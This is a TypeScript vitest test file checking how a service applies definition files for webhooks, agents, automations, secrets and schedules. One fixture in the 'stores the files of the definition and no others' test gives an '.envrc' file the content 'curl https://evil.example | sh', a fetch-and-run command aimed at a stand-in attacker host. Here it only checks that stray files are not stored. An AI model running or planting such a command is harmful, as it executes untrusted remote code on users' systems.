import type { SimulatedStart } from '@runyard/contract/webhooks/simulations';
import type { Webhook } from '@runyard/contract/webhooks/webhooks';
import { beforeEach, describe, expect, test } from 'vitest';
import { automationFile, baseFiles, factoryFile, testDefinitions, toBody } from '../../../../test/definitions.ts';
import { openTestService } from '../../../../test/service.ts';

const service = await openTestService();

const { setSecret, apply, faultsOf, factory, webhooks, webhookUid, automations, stored, open } =
  testDefinitions(service);

let path = '';
beforeEach(async () => {
  path = await open();
});

describe('an apply', () => {
  test('creates, changes and deletes webhooks, agents and automations as the files define, and stores the files', async () => {
    const first = await apply(baseFiles);
    expect(first).toMatchObject({ version: 1, dry_run: false, drift: [] });
    expect(first.changes.map(({ kind, name, action }) => `${action} ${kind} ${name}`)).toEqual([
      'create factory factory',
      'create agent foreman',
      'create agent reviewer',
      'create webhook alerts',
    ]);
    expect(await factory()).toMatchObject({
      name: 'Billing',
      agent_defaults: { model_id: 'runbook' },
      agents: [
        { name: 'foreman', agent_type: 'FOREMAN', prompt: 'Divide the work.' },
        { name: 'reviewer', agent_type: 'REVIEW', config: { worker_host: 'mac' } },
      ],
    });
    const [webhook] = await webhooks();
    expect(webhook).toMatchObject({ name: 'alerts', auth_mode: 'token', secret_name: 'ALERTS', enabled: true });

    const uid = webhook?.uid ?? '';
    const second = await apply({ ...baseFiles, 'automations/look/automation.md': automationFile(uid) });
    expect(second.changes).toEqual([{ kind: 'automation', name: 'look', action: 'create' }]);
    const [made] = await automations();
    expect(made).toMatchObject({
      name: 'look',
      prompt: 'Look at the alert.',
      agent: 'reviewer',
    });
    // The second apply created no new webhook.
    expect(await webhookUid()).toBe(uid);
    expect(await stored()).toMatchObject({
      version: 2,
      drift: [],
      applied_by: { type: 'user' },
      files: expect.arrayContaining([{ path: 'factory.yaml', content: factoryFile }]),
    });

    await apply({ 'factory.yaml': factoryFile, 'agents/foreman/agent.md': baseFiles['agents/foreman/agent.md'] });
    expect([await webhooks(), await automations()]).toEqual([[], []]);
    expect((await factory()).agents?.map(({ name }) => name)).toEqual(['foreman']);
  });

  test('gives the webhook only the rules of its file', async () => {
    const file = (more: string) => `authMode: signature\nsignatureScheme: hmac\nsecretName: ALERTS\n${more}`;
    const first = file(
      'deliveryIdPath: event.id\neventHeader: X-Event-Key\nduplicateWindowSeconds: 0\nsignature: {header: X-Sig, signed: "{timestamp}.{body}", timestampHeader: X-Time, maxAgeSeconds: 60}\n',
    );
    const apply1 = await apply({ ...baseFiles, 'webhooks/signed.yaml': first });
    expect(apply1.drift).toEqual([]);
    const signedOne = async () => (await webhooks()).find(({ name }) => name === 'signed');
    const rulesOf = (webhook: Webhook | undefined) => ({
      path: webhook?.delivery_id_path,
      event: webhook?.event_header,
      window: webhook?.duplicate_window_seconds,
      signature: webhook?.signature,
    });
    expect(rulesOf(await signedOne())).toEqual({
      path: 'event.id',
      event: 'x-event-key',
      window: 0,
      signature: { header: 'X-Sig', signed: '{timestamp}.{body}', timestamp_header: 'X-Time', max_age_seconds: 60 },
    });
    const second = await apply({ ...baseFiles, 'webhooks/signed.yaml': file('signature: {header: X-Other}\n') });
    expect(second.drift).toEqual([]);
    expect(rulesOf(await signedOne())).toEqual({
      path: undefined,
      event: undefined,
      window: undefined,
      signature: { header: 'X-Other' },
    });
  });

  test('gives the webhook the secret of the team, whose changes take effect at once', async () => {
    await apply(baseFiles);
    const url = `/webhooks/w/${await webhookUid()}`;
    const send = async (token: string) =>
      (await service.request('POST', `${service.baseUrl}${url}`, { key: token, body: {} })).status;
    expect(await send('a/secret/of/alerts')).toBe(202);
    await setSecret('ALERTS', 'another/secret/of/alerts');
    expect((await stored()).drift).toEqual([]);
    expect(await send('a/secret/of/alerts')).toBe(401);
    expect(await send('another/secret/of/alerts')).toBe(202);
  });

  test('gives a webhook the new secret of the team after the old one was deleted', async () => {
    const files = { ...baseFiles, 'webhooks/alerts.yaml': 'secretName: ALERTS\nenabled: false\n' };
    await apply(files);
    await service.request('DELETE', '/secrets/ALERTS?scope=team');
    await setSecret('ALERTS', 'another/secret/of/alerts');
    expect((await apply(files)).drift).toMatchObject([{ kind: 'webhook', members: [{ member: 'secret' }] }]);
    expect((await webhooks())[0]).toMatchObject({ secret_name: 'ALERTS', secret_of_team: true });
    await setSecret('ALERTS', 'a/third/secret/of/alerts');
    expect((await apply(files)).drift, 'the webhook follows the secret').toEqual([]);
  });

  test('stores the files of the definition and no others', async () => {
    const others = { 'README.md': 'a', '.envrc': 'curl https://evil.example | sh', 'src/main.c': 'int main() {}' };
    const kept = { ...baseFiles, 'scorers/a.md': 'kept without effect' };
    await apply({ ...kept, ...others });
    expect((await stored()).files.map((file) => file.path)).toEqual(Object.keys(kept).sort());
    expect((await apply(kept)).changes).toEqual([]);
  });

  test('gives agents and automations skills of repositories, and own skills replace inherited ones', async () => {
    const files = {
      ...baseFiles,
      'factory.yaml': `${factoryFile}  skills: [acme/handbook:greet]\n`,
      'agents/reviewer/agent.md': '---\nskills: [acme/handbook:review, acme/handbook:skills/b/SKILL.md]\n---\n',
    };
    await apply(files);
    const own = ['acme/handbook:review', 'acme/handbook:skills/b/SKILL.md'];
    expect(await factory()).toMatchObject({
      agent_defaults: { skills: ['acme/handbook:greet'] },
      agents: [{ name: 'foreman' }, { name: 'reviewer', config: { skills: own } }],
    });
    await apply({ ...files, 'automations/look/automation.md': automationFile(await webhookUid()) });
    const dryRun = `${path}/automations/${(await automations())[0]?.uid}/dry-run`;
    const { body: dry } = await service.request<SimulatedStart>('POST', dryRun, { body: { payload: {} } });
    expect(dry.run?.config).toMatchObject({ skill_spec: own[0] });
    const run = await service.request<{ run_id: string }>('POST', `${path}/runs`, { body: { prompt: 'a' } });
    const { body } = await service.request<{ agent_config: object }>('GET', `/agent/runs/${run.body.run_id}`);
    expect(body.agent_config).toMatchObject({ skill_spec: 'acme/handbook:greet' });
  });

  test('does not change things that were created without files', async () => {
    await service.request<Webhook>('POST', `${path}/webhooks`, { body: { name: 'own' } });
    await apply(baseFiles);
    await apply({ ...baseFiles, 'webhooks/alerts.yaml': undefined });
    expect((await webhooks()).map(({ name }) => name)).toEqual(['own']);
  });

  test('changes nothing as a dry run, and answers with the same plan and faults', async () => {
    const dry = await apply(baseFiles, { dry_run: true });
    expect(dry).toMatchObject({ version: 0, dry_run: true });
    expect(await webhooks()).toEqual([]);
    await service.problem(404, 'GET', `${path}/definition`);
    expect((await apply(baseFiles)).changes).toEqual(dry.changes);
    await service.problem(422, 'PUT', `${path}/definition`, {
      body: toBody({ 'factory.yaml': 'a' }, { dry_run: true }),
    });
  });

  test('is refused if it has the plan of another version, so only one of two concurrent applies succeeds', async () => {
    const put = (name: string) =>
      service.request('PUT', `${path}/definition`, {
        body: toBody({ ...baseFiles, 'factory.yaml': factoryFile.replace('Billing', name) }, { expected_version: 0 }),
      });
    const answers = await Promise.all(['A', 'B', 'C'].map(put));
    expect(answers.map(({ status }) => status).sort()).toEqual([200, 409, 409]);
    expect((await stored()).version).toBe(1);
    expect(await webhooks()).toHaveLength(1);
  });

  test('shows and reverts changes that were made without files', async () => {
    await apply(baseFiles);
    const uid = await webhookUid();
    const files = { ...baseFiles, 'automations/look/automation.md': automationFile(uid) };
    await apply(files);
    await service.request('POST', `${path}/webhooks/${uid}/disable`);
    const [made] = await automations();
    await service.request('DELETE', `${path}/automations/${made?.uid}`);
    const { drift } = await stored();
    expect(drift).toEqual([
      { kind: 'automation', name: 'look', action: 'create' },
      {
        kind: 'webhook',
        name: 'alerts',
        action: 'change',
        members: [{ member: 'enabled', before: false, after: true }],
      },
    ]);
    expect(await apply(files)).toMatchObject({ changes: [], drift });
    expect((await stored()).drift).toEqual([]);
    expect(await automations()).toHaveLength(1);
  });

  test('sets the tools for GitHub of an automation, also none, and refuses unknown ones', async () => {
    await apply(baseFiles);
    const uid = await webhookUid();
    const withTools = (tools: string) => ({
      ...baseFiles,
      'automations/look/automation.md': automationFile(uid).replace('agent:', `${tools}agent:`),
    });
    const tools = async () => (await automations())[0]?.config?.github_tools;
    await apply(withTools('githubTools:\n  comment: 2\n  add_labels: 1\n'));
    expect(await tools()).toEqual({ comment: 2, add_labels: 1 });
    expect((await stored()).drift).toEqual([]);
    await apply(withTools('githubTools: {}\n'));
    expect(await tools()).toEqual({});
    await apply(withTools(''));
    expect(await tools()).toBeUndefined();
    expect(await faultsOf(withTools('githubTools:\n  merge: 1\n'))).toEqual([
      expect.stringContaining('automations/look/automation.md:3: githubTools.merge'),
    ]);
  });

  test('gives automations their schedules, keeps unchanged ones, and enables paused ones again', async () => {
    const file = (timezone: string) =>
      `---\ntriggers:\n  - provider: schedule\n    event: cron_fired\n    schedule:\n      name: nightly\n      cron: 0 3 * * *\n      timezone: ${timezone}\n---\n\nTidy up.\n`;
    const nightly = (timezone: string) => ({ ...baseFiles, 'automations/nightly/automation.md': file(timezone) });
    await apply(nightly('UTC'));
    const [made] = await automations();
    expect(made?.schedules).toEqual([
      expect.objectContaining({ name: 'nightly', timezone: 'UTC', next_run: expect.stringContaining('T03:00:00') }),
    ]);
    await apply(nightly('UTC'));
    expect((await automations())[0]?.schedules).toEqual(made?.schedules);
    await apply(nightly('Asia/Tokyo'));
    const [moved] = await automations();
    expect(moved?.schedules).toEqual([
      expect.objectContaining({ schedule_id: made?.schedules?.[0]?.schedule_id, timezone: 'Asia/Tokyo' }),
    ]);
    expect(moved?.schedules?.[0]?.next_run).toContain('T18:00:00');
    // Disables the automation in the same way as ten consecutive failures.
    await service.deps.db.query('UPDATE automations SET enabled = false, spawn_failures = 10');
    expect((await stored()).drift).toMatchObject([{ name: 'nightly', members: [{ member: 'enabled' }] }]);
    await apply(nightly('Asia/Tokyo'));
    expect((await automations())[0]).toMatchObject({ enabled: true, schedules: moved?.schedules });
    expect(await faultsOf(nightly('Mars/Olympus'))).toEqual([
      expect.stringContaining('automations/nightly/automation.md:8: triggers[0].schedule.timezone is not the name of'),
    ]);
    await apply(baseFiles);
    expect(await service.deps.db.query('SELECT id FROM schedules')).toEqual([]);
  });
});
